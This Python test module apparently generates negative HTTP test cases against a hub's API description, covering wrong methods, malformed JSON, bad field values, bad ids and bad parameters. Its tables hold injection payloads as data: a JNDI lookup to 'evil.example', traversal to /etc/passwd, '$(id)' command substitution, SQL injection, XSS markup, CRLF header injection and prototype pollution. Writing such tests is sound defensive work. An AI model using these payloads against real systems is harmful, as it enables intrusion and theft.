"""Bad bodies, parameters and ids for every operation that the hub's own description names."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import jsonschema  # type: ignore[import-untyped]

from arborlink.protocol.ids import is_id_part
from tests.corpus.arena import Arena
from tests.corpus.http_case import HttpCase
from tests.corpus.http_wire import JSON

AS_JSON = (("Content-Type", JSON),)
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")
_PARAMETER = re.compile(r"{\w+}")
_SCOPE = re.compile(r"scope `([\w:]+)`")
# A body of each type that fits, from which the bad ones are made.
FITTING: Mapping[str, dict[str, Any]] = {
    "SignIn": {"link": "of-nobody"},
    "SessionProof": {"link": "of-nobody"},
    "WorkspaceName": {"name": "may not exist"},
    "Enrol": {"code": "BCDF-GHJK"},
    "NewTask": {"command": "true", "title": "may not exist"},
    "CancelTask": {"graceSeconds": 1},
    "RerunTask": {"env": {}},
    "TaskInput": {"text": "may not arrive"},
    "DeviceStart": {},
    "DeviceCollect": {"deviceCode": "of-nobody"},
    "DeviceDecision": {"userCode": "BCDF-GHJK", "approve": False},
    "NewToken": {"name": "may not exist", "scopes": ["tasks:read"]},
    "NewUser": {"username": "may not exist"},
    "UserChanges": {"role": "member"},
}


@dataclass(frozen=True, slots=True)
class Operation:
    """One method of one path. `body` names the type of its JSON."""

    method: str
    path: str
    scope: str | None
    public: bool
    body: str | None
    body_required: bool
    query: Mapping[str, dict[str, Any]]

    @property
    def id(self) -> str:
        """For people who read a failure."""
        return f"{self.method}-{self.path}"


class Description:
    """The hub's description of itself."""

    def __init__(self, document: dict[str, Any]) -> None:
        self._document = document
        self.operations = list(_operations(document))
        self._validators: dict[str, Any] = {}

    @property
    def paths(self) -> dict[str, set[str]]:
        """The methods of each path."""
        return {
            path: {method.upper() for method in methods}
            for path, methods in self._document["paths"].items()
        }

    def properties(self, name: str) -> Mapping[str, Any]:
        """The fields of a type."""
        fields: Mapping[str, Any] = self._schemas[name]["properties"]
        return fields

    def required(self, name: str) -> Sequence[str]:
        """Those that may not be left out."""
        fields: Sequence[str] = self._schemas[name].get("required", [])
        return fields

    def enumerations(self, name: str) -> Iterator[str]:
        """The fields with a fixed choice of values."""
        return (field for field, schema in self.properties(name).items() if "enum" in schema)

    def accepts(self, name: str, body: object) -> bool:
        """Whether the description says that this body fits."""
        if name not in self._validators:
            schema = {
                "$ref": f"#/components/schemas/{name}",
                "components": self._document["components"],
            }
            self._validators[name] = jsonschema.Draft202012Validator(schema)
        return bool(self._validators[name].is_valid(body))

    @property
    def _schemas(self) -> dict[str, Any]:
        schemas: dict[str, Any] = self._document["components"]["schemas"]
        return schemas


def _operations(document: dict[str, Any]) -> Iterator[Operation]:
    for path, methods in document["paths"].items():
        for method, described in methods.items():
            body = described.get("requestBody", {})
            reference = body.get("content", {}).get(JSON, {}).get("schema", {}).get("$ref", "")
            yield Operation(
                method=method.upper(),
                path=path,
                scope=next(iter(_SCOPE.findall(described.get("description", ""))), None),
                public=not described["security"],
                body=reference.rpartition("/")[2] or None,
                body_required=body.get("required", False),
                query={
                    each["name"]: each["schema"]
                    for each in described["parameters"]
                    if each["in"] == "query"
                },
            )


def existing(arena: Arena, operation: Operation) -> str:
    """The operation's address, with the id of something that exists."""
    user_id = arena.get("/api/me")["userId"]
    ids = {
        "/api/workspaces/": arena.arbor.workspace_id,
        "/api/tasks/": arena.neighbour.task_id,
        "/api/users/": user_id,
    }
    for prefix, thing_id in ids.items():
        if operation.path.startswith(prefix):
            return _PARAMETER.sub(thing_id, operation.path)
    return _PARAMETER.sub("of-nobody", operation.path)


# ── methods ──────────────────────────────────────────────────────────────────────────────────────


def wrong_methods(description: Description) -> Iterator[HttpCase]:
    """B48: what a path does not know, though another one may."""
    for path, known in description.paths.items():
        target = _PARAMETER.sub("of-nobody", path)
        for method in METHODS:
            if method not in known and not (method == "HEAD" and "GET" in known):
                # What is no operation of one path may be another's: `approve` might be a code.
                yield HttpCase(
                    id=f"B48-{method}-{path}",
                    kind="B48",
                    expected="405 method_not_allowed | 404 unknown_code",
                    method=method,
                    target=target,
                )


# ── bodies ───────────────────────────────────────────────────────────────────────────────────────

_NOT_JSON = "400 malformed_json"
_NOT_FITTING = "422 invalid_input"
NOT_JSON: Mapping[str, tuple[str, bytes]] = {
    "words": ("B18", b"not json"),
    "cut-off": ("B18", b'{"command":'),
    "deep-lists": ("B18", b'{"x":' + b"[" * 10_000 + b"]" * 10_000 + b"}"),
    "deep-objects": ("B18", b'{"x":' * 9_000 + b"1" + b"}" * 9_000),
    "trailing-comma": ("B18", b'{"x":1,}'),
    "single-quotes": ("B18", b"{'x':1}"),
    "comment": ("B18", b'{"x":1/**/}'),
    "msgpack": ("B18", b"\x81\xa1x\x01"),
    "form": ("B18", b"command=true&title=x"),
    "xml": ("B18", b'<?xml version="1.0"?><x/>'),
    "byte-order-mark": ("B14", b'\xef\xbb\xbf{"x":1}'),
    "utf-16": ("B14", '{"x":1}'.encode("utf-16")),
    "latin-1": ("B14", b'{"\xe9":"x"}'),
    "latin-1-in-a-value": ("B14", b'{"x":"\xe9"}'),
    "cut-off-character": ("B14", b'{"x":"\xe2\x82"}'),
    "encoded-surrogate": ("B14", b'{"\xed\xa0\x80":"x"}'),
    "overlong": ("B14", b'{"\xc0\xaf":"x"}'),
    "lone-surrogate": ("B14", b'{"\\ud800":"x"}'),
    "swapped-surrogates": ("B14", b'{"\\udc00\\ud800":"x"}'),
    "control-character": ("B14", b'{"a\tb":"x"}'),
    "nan": ("B20", b'{"x":NaN}'),
    "infinity": ("B20", b'{"x":Infinity}'),
    "minus-infinity": ("B20", b'{"x":-Infinity}'),
    "octal": ("B20", b'{"x":007}'),
    "plus": ("B20", b'{"x":+1}'),
    "point-first": ("B20", b'{"x":.5}'),
    "underscore": ("B20", b'{"x":1_000}'),
}
# What is wrong first decides.
NOT_OBJECTS: Mapping[str, bytes] = {
    "brackets": b"[" * 60_000,
    "two-documents": b"[]{}",
    "list": b"[]",
    "null": b"null",
    "text": b'"x"',
    "number": b"1",
    "true": b"true",
    "list-of-objects": b'[{"command":"true"}]',
}
# For every field: those that the description allows are left out.
VALUES: Mapping[str, tuple[str, object]] = {
    "null": ("B21", None),
    "number": ("B21", 7),
    "text": ("B21", "x"),
    "empty": ("B22", ""),
    "list": ("B21", []),
    "object": ("B21", {}),
    "nested": ("B21", {"a": [{"b": [None]}]}),
    "list-of-null": ("B21", [None]),
    "list-of-lists": ("B21", [["x"]]),
    "true": ("B20", True),
    "zero": ("B20", 0),
    "minus-one": ("B20", -1),
    "half": ("B20", 0.5),
    "2**63": ("B20", 2**63),
    "10**300": ("B20", 10**300),
    "__proto__": ("B24", "__proto__"),
    "proto-object": ("B24", {"__proto__": {"admin": True}}),
    "constructor": ("B24", {"constructor": {"prototype": {}}}),
    "__class__": ("B24", {"__class__": "object"}),
    "format": ("B24", ["{0.__init__}", "%n%n%n%s"]),
    "jndi": ("B24", ["${jndi:ldap://evil.example/x}"]),
    "operator": ("B24", {"$ne": None, "$regex": ".*"}),
}
# Where the choice is fixed.
CHOICES = ("__proto__", "constructor", "{0.__init__}", "%n", "${jndi:x}", "OPEN", "open\0", " open")


def bad_bodies(arena: Arena, description: Description) -> Iterator[HttpCase]:
    """B14, B18, B20, B21, B22, B24 for every operation that takes a body."""
    for operation in description.operations:
        if operation.body is None:
            continue
        target = existing(arena, operation)
        for kind, name, expected, body in _bodies(description, operation):
            yield HttpCase(
                id=f"{kind}-{operation.id}-{name}",
                kind=kind,
                expected=expected,
                method=operation.method,
                target=target,
                headers=AS_JSON,
                body=body,
            )


def _bodies(
    description: Description, operation: Operation
) -> Iterator[tuple[str, str, str, bytes]]:
    assert operation.body is not None
    if operation.body_required:
        yield "B18", "no-body", "422 body_required", b""
    for name, (kind, body) in NOT_JSON.items():
        yield kind, name, _NOT_JSON, body
    for name, body in NOT_OBJECTS.items():
        yield "B18", name, _NOT_FITTING, body
    yield "B22", "too-long", "413 message_too_large", b'{"x":"' + b"y" * (1 << 20) + b'"}'
    for name, fields in _mutations(description, operation.body):
        if not description.accepts(operation.body, fields[1]):
            yield fields[0], name, _NOT_FITTING, json.dumps(fields[1]).encode()


def _mutations(
    description: Description, kind_of_body: str
) -> Iterator[tuple[str, tuple[str, dict[str, Any]]]]:
    fitting = FITTING[kind_of_body]
    for field in description.required(kind_of_body):
        yield f"without-{field}", ("B21", {k: v for k, v in fitting.items() if k != field})
        yield (
            f"{field}-in-capitals",
            ("B21", {k.upper() if k == field else k: v for k, v in fitting.items()}),
        )
    for field in description.properties(kind_of_body):
        for name, (kind, value) in VALUES.items():
            yield f"{field}-{name}", (kind, {**fitting, field: value})
    for field in description.enumerations(kind_of_body):
        for choice in CHOICES:
            yield f"{field}-{choice}", ("B24", {**fitting, field: choice})


# ── ids ──────────────────────────────────────────────────────────────────────────────────────────

BAD_IDS: Mapping[str, tuple[str, str]] = {
    "up": ("B25", "../../x"),
    "up-once": ("B25", ".."),
    "dot": ("B25", "."),
    "encoded-up": ("B25", "..%2f..%2fx"),
    "encoded-backslash": ("B25", "..%5c..%5cx"),
    "encoded-twice": ("B25", "%252e%252e%252fx"),
    "slash": ("B25", "a/b"),
    "encoded-slash": ("B25", "a%2Fb"),
    "absolute": ("B25", "%2fetc%2fpasswd"),
    "option": ("B25", "-rf"),
    "device": ("B25", "con"),
    "glob": ("B25", "*"),
    "home": ("B25", "~root"),
    "substitution": ("B25", "$(id)"),
    "file": ("B25", "file:%2f%2f%2fetc%2fpasswd"),
    "nul": ("B22", "%00"),
    "nul-inside": ("B22", "tsk_%00x"),
    "newlines": ("B22", "a%0d%0aSet-Cookie:%20x=y"),
    "turned-round": ("B22", quote("\u202ecba")),
    "line-separator": ("B22", quote("a\u2028b")),
    "zero-width": ("B22", quote("a\u200bb")),
    "not-utf-8": ("B22", "%ff%fe"),
    "surrogate": ("B22", "%ed%a0%80"),
    "long": ("B22", "x" * 7_000),
    "broken-escape": ("B22", "%zz%"),
    "space": ("B22", "%20"),
    "proto": ("B24", "__proto__"),
    "constructor": ("B24", "constructor"),
    "class": ("B24", "__class__"),
    "format": ("B24", "{0.__init__}"),
    "percent-n": ("B24", "%25n%25s"),
    "jndi": ("B24", "${jndi:ldap:%2f%2fevil}"),
    "template": ("B24", "{{7*7}}"),
    "markup": ("B42", "<img%20src=x%20onerror=alert(1)>"),
    "script": ("B42", "%3C%2Fscript%3E%3Cscript%3E"),
    "formula": ("B42", "=cmd()"),
    "sql": ("B26", "'%20OR%201=1%20--"),
    "like": ("B26", "%25_"),
    "number": ("B21", "1"),
    "of-nobody": ("B35", "tsk_00000000000000000000000000"),
    "other-kind": ("B35", "ws_00000000000000000000000000"),
}


def bad_ids(description: Description) -> Iterator[HttpCase]:
    """What is there under no such id, whatever it would be elsewhere."""
    for operation in description.operations:
        if not _PARAMETER.search(operation.path):
            continue
        body = FITTING[operation.body] if operation.body else None
        for name, (kind, bad) in BAD_IDS.items():
            # What looks like a path is another one, which may know another method.
            is_path = "/" in bad or "%2f" in bad.lower() or bad in (".", "..")
            expected = "404 unknown_code" if "{code}" in operation.path else "404 not_found"
            if is_path:
                expected = "404 not_found | 405 method_not_allowed | 404 unknown_code"
            yield HttpCase(
                id=f"{kind}-{operation.id}-{name}",
                kind=kind,
                expected=expected,
                method=operation.method,
                target=_PARAMETER.sub(lambda _, bad=bad: bad, operation.path),  # type: ignore[misc]
                headers=AS_JSON if body is not None else (),
                body=None if body is None else json.dumps(body).encode(),
            )


# ── parameters ───────────────────────────────────────────────────────────────────────────────────

_NUMBERS: Mapping[str, tuple[str, str]] = {
    "empty": ("B21", ""),
    "words": ("B21", "x"),
    "list": ("B21", "1,2"),
    "hexadecimal": ("B20", "0x10"),
    "minus": ("B20", "-1"),
    "minus-zero": ("B20", "-0"),
    "plus": ("B20", "%2B1"),
    "half": ("B20", "0.5"),
    "one-point-zero": ("B20", "1.0"),
    "exponent": ("B20", "1e400"),
    "nan": ("B20", "NaN"),
    "infinity": ("B20", "Infinity"),
    "true": ("B20", "true"),
    "huge": ("B20", "9" * 400),
    "other-digits": ("B20", quote("\u0661")),
    "superscript": ("B20", quote("\u00b2")),
    "space": ("B20", "%201"),
    "underscore": ("B20", "1_0"),
    "nul": ("B22", "1%00"),
    "newline": ("B22", "1%0a"),
}
_WORDS: Mapping[str, tuple[str, str]] = {
    "empty": ("B21", ""),
    "other": ("B21", "x"),
    "upper-case": ("B21", "RAW"),
    "nul": ("B22", "raw%00"),
    "not-utf-8": ("B22", "%ff"),
    "long": ("B22", "x" * 5_000),
    "proto": ("B24", "__proto__"),
    "class": ("B24", "__class__"),
    "format": ("B24", "{0.__init__}"),
    "jndi": ("B24", "${jndi:x}"),
    "up": ("B25", "../../etc/passwd"),
    "sql": ("B26", "'%20OR%201=1"),
    "operator": ("B26", "[$ne]=x"),
}
# Offsets have no schema: they are text to the description, with a minus where it means something.
_OFFSETS = {name: each for name, each in _NUMBERS.items() if not name.startswith("minus")}
_CURSORS: Mapping[str, tuple[str, str]] = {**_WORDS, "other-kind": ("B35", "ws_" + "0" * 26)}


def bad_parameters(arena: Arena, description: Description) -> Iterator[HttpCase]:
    """What no parameter can be."""
    for operation in description.operations:
        for name, schema in operation.query.items():
            expected, values = _bad_values(operation, name, schema)
            for label, (kind, value) in values.items():
                yield HttpCase(
                    id=f"{kind}-{operation.id}-{name}-{label}",
                    kind=kind,
                    expected=expected,
                    method=operation.method,
                    target=f"{existing(arena, operation)}?q=x&{name}={value}",
                )


def _bad_values(
    operation: Operation, name: str, schema: dict[str, Any]
) -> tuple[str, Mapping[str, tuple[str, str]]]:
    refused = "422 invalid_input"
    match name:
        case _ if schema.get("type") == "integer":
            return refused, _NUMBERS
        case _ if "enum" in schema:
            return refused, _WORDS
        case "from" | "to":
            return refused, _OFFSETS
        case "cursor":
            return refused, _CURSORS
        case "createdBy" | "nonce":
            return refused, _WORDS
        case "id":
            return refused, {key: each for key, each in _WORDS.items() if not is_id_part(each[1])}
        case "status":
            return refused, {key: each for key, each in _WORDS.items() if key != "empty"}
        case "workspace":
            return "404 not_found", _WORDS
        case "search" | "q" | "download":
            # Anything is a text to look for, and anything but 1 is no download.
            return "", {}
    raise AssertionError(f"say what is bad for {operation.id}?{name}")
